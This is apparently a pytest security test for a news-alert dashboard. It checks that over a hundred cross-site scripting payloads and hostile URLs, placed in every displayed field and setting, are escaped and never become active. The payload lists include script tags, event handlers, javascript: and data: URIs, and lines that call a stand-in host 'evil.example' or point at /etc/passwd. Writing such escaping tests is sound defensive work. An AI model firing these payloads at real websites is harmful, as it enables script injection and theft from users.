"""What outlets write stays text: more than a hundred payloads through every field that is shown."""

import json
import re
from dataclasses import replace
from datetime import UTC, datetime
from html.parser import HTMLParser

import feedparser
import pytest
from markupsafe import escape
from starlette.testclient import TestClient

from crawler.models import Analysis, Removed, Zone
from crawler.store.store import Store
from scheduler.dashboard.site import make_site
from scheduler.dashboard.window import Shown, Window
from settings.model import Alias, Entity, RuleExample, Run, Settings
from tests.dashboard.conftest import ADDRESS, find_word
from tests.dashboard.newsroom import ENGLISH, Desk, Newsroom

_CALLS = ("alert(1)", "alert`1`", "fetch('//evil.example')", "eval(name)", "top.x=1")
_SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
    "<img src=x onerror={}>", '" onmouseover="{}', "' onfocus='{}' autofocus='", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "<!--><script>{}</script-->", "<iframe srcdoc='<script>{}</script>'>", "<a href=javascript:{}>x</a>",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>", "</li></ol><script>{}</script>",
    "<details open ontoggle={}>",
    "{{{{ {} }}}}", "{{% print {} %}}", "<style>@import '//evil.example';</style><p>{}",
    "<base href=//evil.example><b>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<form action=//evil.example><button>{}",
)  # fmt: skip
PAYLOADS = [shape.format(call) for shape in _SHAPES for call in _CALLS]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>",
    "vbscript:x",
    'http://a.example/"><script>alert(1)</script>',
    "https://a.example/' onclick='alert(1)",
    "//evil.example",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "blob:https://a.example/x",
    "file:///etc/passwd",
]
_OURS = {"/static/site.js"}
_ALLOWED_SCHEMES = ("http://", "https://", "/", "#")


class Findings(HTMLParser):
    """Everything in a page that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if (tag == "script" and values.get("src") not in _OURS) or tag in {"iframe", "object", "embed", "base", "svg"}:
            self.found.append(f"{tag} {attrs}")
        if tag in {"img", "math", "style"} or (tag == "meta" and "http-equiv" in values):
            self.found.append(f"{tag} {attrs}")
        for name, value in attrs:
            if name.startswith("on") or name in {"srcdoc", "style", "xlink:href"}:
                self.found.append(f"{tag} {name}={value}")
            if name in {"href", "src", "action", "formaction"} and not (value or "").startswith(_ALLOWED_SCHEMES):
                self.found.append(f"{tag} {name}={value}")
            if name == "action" and (value or "").startswith("//"):
                self.found.append(f"{tag} {name}={value}")


def find_active(page: str) -> list[str]:
    findings = Findings()
    findings.feed(page)
    return findings.found


def poison(analysis: Analysis, evil: str, address: str) -> Analysis:
    """The same with the payload in every text that an outlet, or whoever wrote a rule, could choose."""
    article = replace(
        analysis.article,
        title=evil, description=evil, body=f"{evil}\n{analysis.article.body}", captions=(evil, evil),
        removed=(Removed(evil, evil, evil),), url=address, language=evil[:12], authors=(evil,), canonical_url=address,
        section=evil, tags=(evil,), image_url=address, published_from=evil,
    )  # fmt: skip
    end = len(evil)
    hit = analysis.hits[0]
    term = replace(hit.terms[0], zone=Zone.TITLE, start=0, end=end, text=evil, label=f"@group:{evil}")
    poisoned = replace(
        hit, rule=evil, terms=(term,), zone=Zone.TITLE, start=0, end=end, sentence=evil, explanation=evil
    )
    body = replace(poisoned, zone=Zone.BODY, terms=(replace(term, zone=Zone.BODY, label=evil),), sentence=evil + ".")
    mention = replace(analysis.mentions[0], zone=Zone.REMOVED, start=0, end=end, text=evil, name=evil, entity=evil)
    told = replace(mention, zone=Zone.TITLE)
    return replace(analysis, article=article, hits=(poisoned, body), mentions=(mention, told), signature=None)


def test_there_are_more_than_a_hundred_payloads() -> None:
    assert len({*PAYLOADS, *ADDRESSES}) > 100


def test_the_check_finds_what_is_active() -> None:
    for payload in ("<script>x</script>", "<img src=x onerror=x>", "<a href=javascript:x>", "<base href=//e>"):
        assert find_active(payload), payload


@pytest.mark.parametrize("shape", range(len(_SHAPES)))
def test_no_payload_acts_wherever_it_stands(
    pages: TestClient, desk: Desk, newsroom: Newsroom, store: Store, shape: int
) -> None:
    analysis, page, alert_id = newsroom.analyse(ENGLISH), newsroom.page(ENGLISH)[1], ""
    word = find_word(pages.get("/").text)
    for number, evil in enumerate(PAYLOADS[shape * len(_CALLS) : (shape + 1) * len(_CALLS)]):
        address = ADDRESSES[(shape + number) % len(ADDRESSES)]
        alert_id = desk.save(f"http://wire.example/{shape}/{number}", poison(analysis, evil, address), page)
        assert alert_id
        pages.post(f"/alerts/{alert_id}/ack", data={"word": word, "by": evil, "note": evil})
        pages.post(
            f"/alerts/{alert_id}/mute",
            data={"word": word, "what": f"alert:{alert_id}", "reason": evil, "by": evil, "even_critical": "true"},
        )
        for path in (f"/alerts/{alert_id}", f"/rows/{alert_id}"):
            text = pages.get(path).text
            assert find_active(text) == [], (path, evil)
            assert str(escape(evil)) in text
    for path in (f"/api/alerts/{alert_id}", "/api/alerts", "/api/alerts.json"):
        answer = pages.get(path)
        assert answer.headers["content-type"].split(";")[0] in {"application/json", "application/feed+json"}
        assert json.loads(answer.text), path
    assert feedparser.parse(pages.get("/api/alerts.atom").content).bozo is False
    assert pages.get(f"/api/alerts/{alert_id}/stix").status_code == 200
    listed = pages.get("/")
    assert find_active(listed.text) == []
    assert len(re.findall('data-alert="', listed.text)) == len(_CALLS)


def test_a_filter_with_a_payload_is_text(pages: TestClient) -> None:
    for evil in PAYLOADS[::5]:
        text = pages.get("/", params={"rule": evil, "story": evil, "outlet": evil, "entity": evil}).text
        assert find_active(text) == []


def poison_settings(settings: Settings, evil: str) -> Settings:
    """With the payload in every text of the settings that is no slug: they may be somebody else's."""
    outlets = [each.model_copy(update=dict.fromkeys(_OUTLET_TEXTS, evil)) for each in settings.outlets]
    asked = " ".join(rule.when for rule in settings.rules)
    entities = []
    for each in settings.gazetteer.entities:
        # rules ask for some kinds by their names
        kind = each.kind if f":kind-{each.kind.replace('_', '-')}" in asked else evil
        texts = dict.fromkeys(_ENTITY_TEXTS, evil)
        aliases = (*each.aliases, _name_alias(each, evil))
        entities.append(each.model_copy(update={**texts, "kind": kind, "aliases": aliases}))
    rules = [
        each.model_copy(
            update={
                "description": evil,
                "tags": (evil,),
                "examples": (RuleExample(text=evil, matches=True), RuleExample(text=evil, matches=False)),
            }
        )
        for each in settings.rules
    ]
    return settings.model_copy(
        update={
            "outlets": tuple(outlets),
            "rules": tuple(rules),
            "gazetteer": settings.gazetteer.model_copy(update={"entities": tuple(entities)}),
        }
    )


_OUTLET_TEXTS = ("name", "language", "country", "alignment", "timezone", "note", "homepage")
_ENTITY_TEXTS = ("name", "note")


def _name_alias(entity: Entity, evil: str) -> Alias:
    return entity.aliases[0].model_copy(update={"text": evil})


@pytest.mark.parametrize("shape", range(0, len(_SHAPES), 4))
def test_no_name_of_the_settings_acts(newsroom: Newsroom, desk: Desk, store: Store, run: Run, shape: int) -> None:
    alert_id = desk.tell(ENGLISH)
    evil = PAYLOADS[shape * len(_CALLS)]
    settings = poison_settings(newsroom.settings, evil)
    window = Window(run, store, Shown(None, settings), lambda: datetime.now(UTC))
    source = settings.sources[0].name
    with TestClient(make_site(window), base_url=ADDRESS, headers={"Accept": "text/html"}) as pages:
        for path in (
            "/", f"/alerts/{alert_id}", "/activity?by=base", "/activity?by=group", "/activity?by=outlet", "/sources",
            f"/sources/{source}", "/rules", "/rules/base-attacked", "/search", "/entities", "/entities/ain-al-asad",
            "/entities/suggestions",
        ):  # fmt: skip
            answer = pages.get(path)
            assert answer.status_code == 200, path
            ours = "svg [('class'"  # timelines and the map
            assert [each for each in find_active(answer.text) if not each.startswith(ours)] == [], (path, evil)
            if path in {"/", "/activity?by=outlet", "/sources", "/rules/base-attacked", "/entities/ain-al-asad"}:
                assert str(escape(evil)) in answer.text, path
        for path in ("/api/alerts.atom", "/api/alerts.json", f"/api/alerts/{alert_id}/stix", "/metrics"):
            assert pages.get(path).status_code == 200, path
        assert feedparser.parse(pages.get("/api/alerts.atom").content).bozo is False
